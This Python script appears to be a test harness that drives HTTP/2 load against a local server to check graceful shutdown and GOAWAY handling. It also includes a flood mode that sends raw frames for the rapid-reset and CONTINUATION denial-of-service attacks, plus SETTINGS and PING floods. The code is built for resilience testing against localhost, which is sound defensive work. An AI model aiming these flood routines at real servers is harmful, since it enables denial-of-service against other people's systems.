#!/usr/bin/python3
"""HTTP/2 load for drills/run's shutdown drill (Debian's python3, for python3-h2).

Each connection keeps `--streams` requests open, opening a new one when one finishes, until
`--seconds` or GOAWAY. Counts every stream's outcome and writes JSON: sent, 2xx, 4xx, 5xx,
conn_err, goaways, and `lost`: streams at or below GOAWAY's last-stream-id (streams the server
said it would process) that did not end with a complete 2xx response.
"""

import argparse
import json
import socket
import ssl
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def run(port, token, streams, seconds, res, lock, rps=0.0, conn_no=0):
    """Closed loop (`streams` always open) or, with `rps`, paced: one new stream every
    1/rps s on this connection (at most `streams` open at once). Every stream carries
    `x-req-id: h2-<conn>-<stream id>`; the ids that did not end 2xx go to res["failed"]."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10),
                        server_hostname="localhost")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    open_ = {}  # stream id -> status (None until headers)
    done = {}  # stream id -> status (complete)
    goaway = None
    deadline = time.monotonic() + seconds

    def send_one():
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":path", "/"), (":scheme", "https"),
                                (":authority", "localhost"),
                                ("authorization", f"Bearer {token}"),
                                ("x-req-id", f"h2-{conn_no}-{sid}")], end_stream=True)
        open_[sid] = None

    period = 1.0 / rps if rps else 0.0
    next_due = time.monotonic() + (conn_no * period / 4 if rps else 0.0)
    ok_times = []  # wall-clock end of every 2xx stream (paced mode: the achieved rate)
    if not rps:
        for _ in range(streams):
            send_one()
    s.sendall(conn.data_to_send())

    def flush() -> bool:
        """Sends what h2 has queued; False once the socket is gone."""
        out = conn.data_to_send()
        if out:
            try:
                s.sendall(out)
            except OSError:
                return False
        return True

    closed = False
    final = False
    buf = b""
    while time.monotonic() < deadline + 10 and not closed:
        if rps:
            now = time.monotonic()
            if next_due < now - 0.1:  # far behind: the shortfall shows in the rate, no burst
                next_due = now
            while goaway is None and now >= next_due and now < deadline and len(open_) < streams:
                send_one()
                next_due += period
            if not flush():
                closed = True
                break
            s.settimeout(min(0.05, max(0.001, next_due - time.monotonic())))
        try:
            data = s.recv(65536)
        except TimeoutError:
            if (final or time.monotonic() >= deadline) and not open_:
                break
            continue
        except OSError:
            data = b""
        finally:
            s.settimeout(10)
        if not data:
            closed = True
            break
        # One frame at a time: a PING after the final GOAWAY makes h2 raise, and the events
        # of the frames before it in the same read must not be lost.
        buf += data
        events = []
        while len(buf) >= 9 and not closed:
            size = 9 + int.from_bytes(buf[:3], "big")
            if len(buf) < size:
                break
            frame, buf = buf[:size], buf[size:]
            if frame[3] == 0x7:
                # GOAWAY is read here, not by h2: h2 closes the connection at the first one,
                # and a graceful shutdown sends two (2^31-1, then the real last stream id).
                last = int.from_bytes(frame[9:13], "big") & 0x7FFFFFFF
                goaway = last if goaway is None else min(goaway, last)
                if last != 0x7FFFFFFF:
                    final = True
                continue
            try:
                events += conn.receive_data(frame)
            except h2.exceptions.ProtocolError:
                closed = True  # frames after the final GOAWAY: the connection is over
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                status = int(dict(ev.headers)[b":status"])
                open_[ev.stream_id] = status
            elif isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                done[ev.stream_id] = open_.pop(ev.stream_id, None)
                if isinstance(done[ev.stream_id], int) and done[ev.stream_id] < 300:
                    ok_times.append(time.time())
                if not rps and goaway is None and time.monotonic() < deadline:
                    send_one()
            elif isinstance(ev, h2.events.StreamReset):
                done[ev.stream_id] = "reset"
                open_.pop(ev.stream_id, None)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                goaway = ev.last_stream_id
        if not flush():
            closed = True
        if (final or time.monotonic() >= deadline) and not open_:
            break
    s.close()
    with lock:
        res["connections"] += 1
        res["goaways"] += goaway is not None
        res.setdefault("ok_times", []).extend(ok_times)
        res.setdefault("failed", []).extend(
            f"h2-{conn_no}-{sid}" for sid, st in list(done.items()) + list(open_.items())
            if not (isinstance(st, int) and 200 <= st < 300))
        for sid, st in done.items():
            res["sent"] += 1
            if isinstance(st, int) and 200 <= st < 300:
                res["2xx"] += 1
            elif isinstance(st, int) and 400 <= st < 500:
                res["4xx"] += 1
            elif isinstance(st, int) and st >= 500:
                res["5xx"] += 1
            else:
                res["conn_err"] += 1
            if goaway is not None and sid <= goaway and not (isinstance(st, int) and st < 300):
                res["lost"] += 1
        for sid in open_:  # never finished
            res["sent"] += 1
            res["conn_err"] += 1
            if goaway is None or sid <= goaway:
                res["lost"] += 1


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + \
        stream.to_bytes(4, "big") + payload


def flood(port, token, kind, seconds, res, lock):
    """Raw frames, no h2 state machine: the point is to break the rules at speed.

    rapid-reset: HEADERS then RST_STREAM, new stream each time (CVE-2023-44487).
    continuation: one HEADERS without END_HEADERS, then CONTINUATION frames forever
    (CVE-2024-27316 family). settings / ping: SETTINGS or PING frames in a loop.
    Reconnects when the server closes; counts frames sent and connections the server ended."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    enc = h2.connection.H2Connection().encoder
    block = enc.encode([(":method", "GET"), (":path", "/"), (":scheme", "https"),
                        (":authority", "localhost"), ("authorization", f"Bearer {token}")])
    deadline = time.monotonic() + seconds
    frames = closed = 0
    while time.monotonic() < deadline:
        try:
            s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5),
                                server_hostname="localhost")
            s.setblocking(True)
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            sid = 1
            if kind == "continuation":
                s.sendall(frame(1, 0, 1, block))  # no END_HEADERS
            while time.monotonic() < deadline:
                batch = []
                for _ in range(50):
                    if kind == "rapid-reset":
                        batch.append(frame(1, 0x4 | 0x1, sid, block))
                        batch.append(frame(3, 0, sid, (8).to_bytes(4, "big")))  # CANCEL
                        sid += 2
                    elif kind == "continuation":
                        batch.append(frame(9, 0, 1, b"x-pad: " + b"a" * 1000))
                    elif kind == "settings":
                        batch.append(frame(4, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big")))
                    else:
                        batch.append(frame(6, 0, 0, b"12345678"))
                s.sendall(b"".join(batch))
                frames += len(batch)
                time.sleep(0.001)
        except OSError:
            closed += 1
            time.sleep(0.01)
    with lock:
        res["frames"] += frames
        res["closed_by_server"] += closed


def on_connections(a, work, first_args, res, extra=lambda i: ()):
    """Runs `work(*first_args, seconds, res, lock, *extra(i))` on `a.connections` threads,
    waits for them (bounded) and writes the shared counts `res` to `a.out`."""
    lock = threading.Lock()
    ts = [threading.Thread(target=work, args=(*first_args, a.seconds, res, lock, *extra(i)))
          for i in range(a.connections)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(timeout=a.seconds + 20)
    with open(a.out, "w") as f:
        json.dump(res, f)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--token", required=True)
    ap.add_argument("--connections", type=int, default=4)
    ap.add_argument("--streams", type=int, default=16)
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--out", required=True)
    ap.add_argument("--conn-base", type=int, default=0, help="first connection number (x-req-id)")
    ap.add_argument("--rps", type=float, default=0.0,
                    help="paced: this many new streams per second in all (over all connections)")
    ap.add_argument("--flood", choices=["rapid-reset", "continuation", "settings", "ping"])
    a = ap.parse_args()
    if a.flood:
        return on_connections(a, flood, (a.port, a.token, a.flood),
                              dict(frames=0, closed_by_server=0))
    res = dict(connections=0, goaways=0, sent=0, lost=0, conn_err=0, **{"2xx": 0, "4xx": 0,
                                                                       "5xx": 0})
    return on_connections(a, run, (a.port, a.token, a.streams), res,
                          lambda i: (a.rps / a.connections, a.conn_base + i))


if __name__ == "__main__":
    main()
